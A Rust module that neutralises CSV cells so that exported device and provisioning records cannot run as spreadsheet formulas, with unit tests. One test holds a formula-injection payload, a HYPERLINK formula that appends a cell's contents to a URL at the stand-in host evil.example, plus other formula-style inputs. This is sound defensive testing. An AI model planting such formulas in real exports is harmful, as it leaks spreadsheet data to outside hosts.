//! CSV that spreadsheets open safely: the records the platform exports
//! (devices, provisioning records, campaign devices) carry text other
//! people typed, so no cell may run as a formula in the reader's
//! spreadsheet. Pure; the web exports stream it and the CLI writes it.

/// Rows written as CSV (no header), for a page. Every cell passes through
/// [`neutralise`]: these files are opened in spreadsheets.
pub fn rows<I, R>(records: I) -> Vec<u8>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    for r in records {
        let cells: Vec<Vec<u8>> = r.into_iter().map(|c| neutralise(c.as_ref())).collect();
        // Writing to a Vec cannot fail.
        let _ = w.write_record(&cells);
    }
    w.into_inner().unwrap_or_default()
}

/// A cell a spreadsheet would read as a formula gets a leading `'`, as the
/// OWASP guidance on CSV injection says: a subscriber name or a handset's
/// make is typed by someone else and must not run in the reader's
/// spreadsheet. A plain number (`-12`, `+1.5`) is no formula and is left
/// as it is.
pub fn neutralise(cell: &[u8]) -> Vec<u8> {
    let formula = matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    if formula && !is_plain_number(cell) {
        let mut out = Vec::with_capacity(cell.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(cell);
        out
    } else {
        cell.to_vec()
    }
}

/// An optional sign, digits and at most one decimal point among them.
fn is_plain_number(cell: &[u8]) -> bool {
    let digits = match cell.first() {
        Some(b'+' | b'-') => &cell[1..],
        _ => cell,
    };
    let mut points = 0;
    let mut any_digit = false;
    for &b in digits {
        match b {
            b'0'..=b'9' => any_digit = true,
            b'.' => points += 1,
            _ => return false,
        }
    }
    any_digit && points <= 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(cells: &[&str]) -> String {
        String::from_utf8(rows([cells.iter().copied()])).unwrap()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            csv(&[
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "@SUM(1+1)"
            ]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)\n"
        );
        assert_eq!(
            csv(&["+1+cmd", "-2+3", "\tx", "\rx"]),
            "'+1+cmd,'-2+3,'\tx,\"'\rx\"\n"
        );
    }

    #[test]
    fn ordinary_values_and_plain_numbers_are_left_alone() {
        assert_eq!(
            csv(&[
                "Samsung",
                "SCH-U350",
                "-12",
                "+1.5",
                "4152000001",
                "",
                "a=b"
            ]),
            "Samsung,SCH-U350,-12,+1.5,4152000001,,a=b\n"
        );
    }
}
